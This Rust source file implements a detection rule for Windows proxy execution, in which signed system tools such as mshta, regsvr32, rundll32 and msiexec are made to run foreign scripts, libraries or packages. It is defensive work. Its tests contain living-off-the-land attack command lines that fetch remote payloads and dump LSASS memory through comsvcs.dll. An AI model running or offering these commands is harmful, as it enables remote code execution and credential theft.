//! LOL-01: a system tool runs code of others.
//!
//! Sees: mshta, regsvr32, rundll32, msiexec, msbuild and some forty other tools with arguments that make them run a script, library
//! or package of somebody's choice: from a URL, from a folder that users may write to, or by a telling option.
//! Why: signed tools of the system pass allowlists and look ordinary.
//! Benign causes: installers that register libraries, build machines, software of one user in AppData.
//! Sources: MITRE ATT&CK T1218, T1127, T1202, T1216, T1220; Microsoft's documentation of the tools; LOLBAS for orientation.

use super::lolbin_starts::used;
use super::meta::{Key, Level, Meta, Reads, Threshold};
use super::starts::{self, command};
use super::{Cx, Hit, KeyRows, Signal};
use crate::base::ip;
use crate::knowledge::programs::{DOCUMENT_APPLICATIONS, SCRIPT_HOSTS, SERVER_PROCESSES, contains};
use crate::lake::frame::Row;
use crate::rules::lolbins::Purpose;
use crate::schema::{network, process as t};

/// See the module.
pub struct Lol01;

const RAISERS: f64 = 2.0;
const NETWORK_S: f64 = 60.0;

static META: Meta = Meta {
    id: "LOL-01",
    title: "Proxy execution",
    sees: "A system tool with arguments that make it run somebody's script, library or package. High when two \
           circumstances speak against it: a URL, a path users may write to, a document, script or server as parent, a \
           connection to the internet within a minute.",
    why: "Signed tools of the system pass allowlists and look ordinary.",
    techniques: &[
        "T1218",
        "T1218.001",
        "T1218.002",
        "T1218.003",
        "T1218.004",
        "T1218.005",
        "T1218.007",
        "T1218.008",
        "T1218.009",
        "T1218.010",
        "T1218.011",
        "T1218.012",
        "T1218.013",
        "T1218.014",
        "T1127",
        "T1127.001",
        "T1202",
        "T1216",
        "T1216.001",
        "T1220",
        "T1047",
        "T1055",
        "T1003.001",
    ],
    stage: "stealth",
    family: "lolbins",
    key: Key::Host,
    reads: &[
        Reads {
            table: &t::TABLE,
            columns: starts::COLUMNS,
        },
        Reads {
            table: &network::TABLE,
            columns: &[
                network::PID,
                network::PROC_GUID,
                network::IMAGE,
                network::DST_IP,
                network::DIRECTION,
            ],
        },
    ],
    level: Level::Medium,
    decisive: false,
    thresholds: &[
        Threshold {
            name: "raisers",
            value: RAISERS,
            unit: "circumstances",
            source: "[J] any two",
        },
        Threshold {
            name: "network_seconds",
            value: NETWORK_S,
            unit: "s",
            source: "detection.md LOL-01 [J]",
        },
    ],
    benign: &[
        "installers that register libraries",
        "build machines",
        "software that one user installed in AppData",
    ],
};

impl Signal for Lol01 {
    fn meta(&self) -> &'static Meta {
        &META
    }

    fn scan(&self, cx: &Cx<'_>, rows: &KeyRows<'_>, hits: &mut Vec<Hit>) {
        let connections = rows.table(&network::TABLE);
        for row in starts::starts(rows.table(&t::TABLE)) {
            let Some((tool, found, writable)) = used(row, Purpose::Proxy) else {
                continue;
            };
            if is_build(&tool, row) {
                continue;
            }
            let mut hit = Hit::at(
                &META,
                row,
                format!("{tool}:{}", found.techniques.first().unwrap_or(&"")),
                "",
            )
            .techniques(found.techniques);
            let mut reasons = circumstances(row, writable);
            let soon = connections.between(row.ts(), row.ts() + (cx.number(&META, "network_seconds") * 1e6) as i64);
            if let Some(c) = soon.iter().find(|c| is_own(*c, row)) {
                let address = c.ip(network::DST_IP).map(|a| ip::display(&a)).unwrap_or_default();
                reasons.push(format!("it connected to {address}"));
                hit.add_row(c);
            }
            let why = if reasons.is_empty() {
                String::new()
            } else {
                format!(" ({})", reasons.join(", "))
            };
            hit.explain = format!("{tool} runs code of others{why}: {}", command(row));
            if reasons.len() as f64 >= cx.number(&META, "raisers") {
                hit = hit.level(Level::High);
            }
            hit.iocs = starts::iocs(row);
            hits.push(hit);
        }
    }
}

/// Builds by an IDE, a build server or the compiler itself are ordinary.
fn is_build(tool: &str, row: Row<'_>) -> bool {
    let parent = row.str(t::PARENT_NAME);
    let builders = [
        "devenv",
        "msbuild",
        "vbcscompiler",
        "dotnet",
        "rider",
        "agent.worker",
        "buildagent",
        "jenkins",
    ];
    tool == "msbuild" && contains_stem(&builders, parent)
}

fn contains_stem(set: &[&str], name: &str) -> bool {
    let stem = crate::knowledge::programs::stem(name).to_lowercase();
    set.contains(&stem.as_str())
}

fn circumstances(row: Row<'_>, writable: Option<&'static str>) -> Vec<String> {
    let line = row.str(t::CMDLINE).to_lowercase();
    let mut out = Vec::new();
    if line.contains("http:") || line.contains("https:") {
        out.push("from a URL".to_owned());
    }
    if let Some(place) = writable {
        out.push(format!("from {place}"));
    }
    let parent = row.str(t::PARENT_NAME);
    if [DOCUMENT_APPLICATIONS, SCRIPT_HOSTS, SERVER_PROCESSES]
        .iter()
        .any(|set| contains(set, parent))
    {
        out.push(format!("started by {parent}"));
    }
    out
}

/// Whether an outgoing connection to the internet belongs to a start.
fn is_own(connection: Row<'_>, row: Row<'_>) -> bool {
    let outside = connection.ip(network::DST_IP).is_some_and(|a| !ip::is_internal(&a))
        && connection.str(network::DIRECTION) != "in";
    let by_guid = row.text(t::PROC_GUID).is_some() && row.id(t::PROC_GUID) == connection.id(network::PROC_GUID);
    let by_pid = row.int(t::PID).is_some() && row.int(t::PID) == connection.int(network::PID);
    outside && (by_guid || by_pid)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::signals::starts::testing::hits_of;

    fn technique(line: &str, parent: &str) -> Option<String> {
        let image = format!("{}.exe", line.split([' ', '.']).next().unwrap());
        hits_of(&Lol01, &image, parent, line)
            .first()
            .map(|h| h.techniques[0].to_string())
    }

    #[test]
    fn tools_that_run_code_of_others_are_told_by_technique() {
        for (line, expected) in [
            ("regsvr32 /s /n /u /i:http://192.0.2.1/a.sct scrobj.dll", "T1218.010"),
            ("rundll32 javascript:\"..\\mshtml,RunHTMLApplication\"", "T1218.011"),
            ("rundll32.exe", "T1218.011"),
            (r"rundll32 C:\Users\a\AppData\Local\Temp\x.dll,Start", "T1218.011"),
            (
                r"rundll32 C:\Windows\System32\comsvcs.dll, MiniDump 640 C:\x.dmp full",
                "T1003.001",
            ),
            ("msiexec /q /i http://192.0.2.1/a.msi", "T1218.007"),
            ("mshta http://192.0.2.1/a.hta", "T1218.005"),
            (r"msbuild C:\Users\a\AppData\Local\Temp\x.csproj", "T1127.001"),
            ("wmic process list /format:http://192.0.2.1/a.xsl", "T1220"),
            ("forfiles /p c:\\windows /m notepad.exe /c calc", "T1202"),
        ] {
            assert_eq!(technique(line, "cmd.exe").as_deref(), Some(expected), "{line}");
        }
        let found = hits_of(&Lol01, "mshta.exe", "winword.exe", "mshta http://192.0.2.1/a.hta");
        assert_eq!(found[0].level, Level::High);
    }

    #[test]
    fn ordinary_uses_are_quiet() {
        for (line, parent) in [
            ("rundll32 shell32.dll,Control_RunDLL desk.cpl", "explorer.exe"),
            ("rundll32 printui.dll,PrintUIEntry /in /n \\\\print\\p1", "cmd.exe"),
            ("msbuild a.sln", "devenv.exe"),
            (r"regsvr32 /s C:\Program Files\v\a.dll", "msiexec.exe"),
            ("msiexec /i {90160000-008C-0000-1000-0000000FF1CE} /qn", "ccmexec.exe"),
            ("wmic os get caption /format:list", "cmd.exe"),
        ] {
            assert_eq!(technique(line, parent), None, "{line}");
        }
    }
}
